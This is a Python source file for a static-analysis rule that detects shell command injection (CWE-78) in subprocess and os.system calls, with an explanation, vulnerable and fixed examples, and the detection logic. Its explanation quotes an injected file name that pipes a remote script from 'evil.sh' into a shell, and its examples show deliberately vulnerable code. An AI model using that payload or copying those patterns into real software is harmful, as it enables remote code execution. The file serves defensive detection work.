"""A shell command line built from a value that is not a constant."""

from __future__ import annotations

import ast

from backend_expert.check import FileContext
from backend_expert.dataflow import Kind, confidence_for, taint_of
from backend_expert.dataflow.util import _short
from backend_expert.findings import Severity
from backend_expert.rules.base import Example, Explanation, visit_call
from backend_expert.security_support import TaintSinkRule, operator_command, word_set

SUBPROCESS = word_set(
    """subprocess.run subprocess.call subprocess.check_call subprocess.check_output
    subprocess.Popen"""
)
ALWAYS_SHELL = frozenset({"asyncio.create_subprocess_shell"})


class ShellInjection(TaintSinkRule):
    code = "BEX707"
    slug = "shell-injection"
    pack = "security"
    severity = Severity.ERROR
    category = "security"
    cwe = 78
    security_severity = 9.8
    skip_tests = True
    sink_does = "is run by the shell"
    report_unknown = False
    summary = "A shell command built from a value that is not a constant"
    hint = (
        "Pass the command as a list of arguments without `shell=True` "
        '(`subprocess.run(["convert", path, out])`), or quote each value with `shlex.quote()`.'
    )
    explanation = Explanation(
        what=(
            "Flags `os.system()`, `os.popen()`, `subprocess.getoutput()`, "
            "`asyncio.create_subprocess_shell()` and `subprocess.run/call/check_call/"
            "check_output/Popen(..., shell=True)` when the command is built from request data "
            "(high confidence) or from a parameter of the function (medium). Values bex cannot "
            "trace (settings, command-line arguments, paths the code built), wrappers that run "
            "the command they are given as is (`def run(command): subprocess.run(command, "
            "shell=True)`), operator scripts (`scripts/`, `bin/`, `tools/`, management "
            "commands) are not reported. "
            "Values quoted with `shlex.quote()` and numbers do not count; constant commands and "
            "argument lists without `shell=True` are never flagged."
        ),
        why=(
            "The shell reads the whole string as a script: `;`, `|`, `&&`, `$(...)` and "
            "backquotes inside a value start new commands. A file name such as "
            '`"x; curl evil.sh | sh"` turns a thumbnail job into a remote shell.'
        ),
        use_instead=(
            "Give `subprocess.run()` a list (`[program, arg1, arg2]`) and no `shell=True`: each "
            "value then reaches the program as one argument, whatever it contains. When a shell "
            "is unavoidable, quote every value with `shlex.quote()`."
        ),
        references=(
            "https://docs.python.org/3/library/subprocess.html#security-considerations",
            "https://docs.python.org/3/library/shlex.html#shlex.quote",
            "https://cwe.mitre.org/data/definitions/78.html",
        ),
    )
    fire = (
        Example(
            title="a FastAPI query parameter in `shell=True` and in `os.system()`",
            code="""\
import os
import subprocess

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping(host: str):
    subprocess.run(f"ping -c 1 {host}", shell=True, check=False)  # flagged
    os.system("nslookup " + host)  # flagged
    return {"ok": True}
""",
            fixed="""\
import subprocess

from fastapi import FastAPI

app = FastAPI()


@app.get("/ping")
def ping(host: str):
    subprocess.run(["ping", "-c", "1", host], check=False)
    subprocess.run(["nslookup", host], check=False)
    return {"ok": True}
""",
        ),
        Example(
            title="a helper building a command line (medium confidence)",
            code="""\
import subprocess


def make_thumbnail(path):
    return subprocess.check_output("convert %s -resize 64x64 thumb.png" % path, shell=True)  # flagged
""",
        ),
    )
    clean = (
        Example(
            title="constant commands, argument lists and quoted values",
            code="""\
import os
import shlex
import subprocess


def backup(path):
    os.system("sync")
    subprocess.run(["tar", "czf", "backup.tgz", path], check=True)
    subprocess.run(f"tar czf backup.tgz {shlex.quote(path)}", shell=True, check=True)
    subprocess.run("ls -l | wc -l", shell=True, check=True)
""",
        ),
    )

    @visit_call(SUBPROCESS, ALWAYS_SHELL)
    def check_subprocess(self, node: ast.Call, ctx: FileContext) -> None:
        qualified = ctx.qualname(node.func)
        if qualified in SUBPROCESS:
            shell = next((kw.value for kw in node.keywords if kw.arg == "shell"), None)
            if not (isinstance(shell, ast.Constant) and shell.value is True):
                return
        elif qualified not in ALWAYS_SHELL:
            return
        command = node.args[0] if node.args else None
        if command is None:
            command = next((kw.value for kw in node.keywords if kw.arg in ("args", "cmd")), None)
        if command is None or isinstance(command, ast.List | ast.Tuple | ast.Starred):
            return
        source = taint_of(command, ctx)
        confidence = confidence_for(source)
        if confidence is None or (source.kind == Kind.PARAMETER and operator_command(ctx)):
            return
        if source.kind == Kind.PARAMETER and isinstance(command, ast.Name):
            return  # `def run_command(command)`: a wrapper; its callers choose the command
        if source.kind == Kind.UNKNOWN:
            return  # settings, CLI arguments, paths the code made: not worth a finding
        self.report_sink(node, command, source, confidence, ctx)

    def report_sink(self, call, argument, source, confidence, ctx) -> None:  # type: ignore[override]
        message = (
            f"`{_short(argument, 50)}` is run by the shell through `{_short(call.func, 40)}()`; "
            f"it is built from a value that comes from {source.origin}"
            f"{f' on line {source.line}' if source.line else ''}. A `;`, `|` or `$(...)` in it "
            "starts another command. Pass a list of arguments without `shell=True`, or quote "
            "the value with `shlex.quote()`."
        )
        ctx.report(call, message, confidence=confidence, source=source.describe())
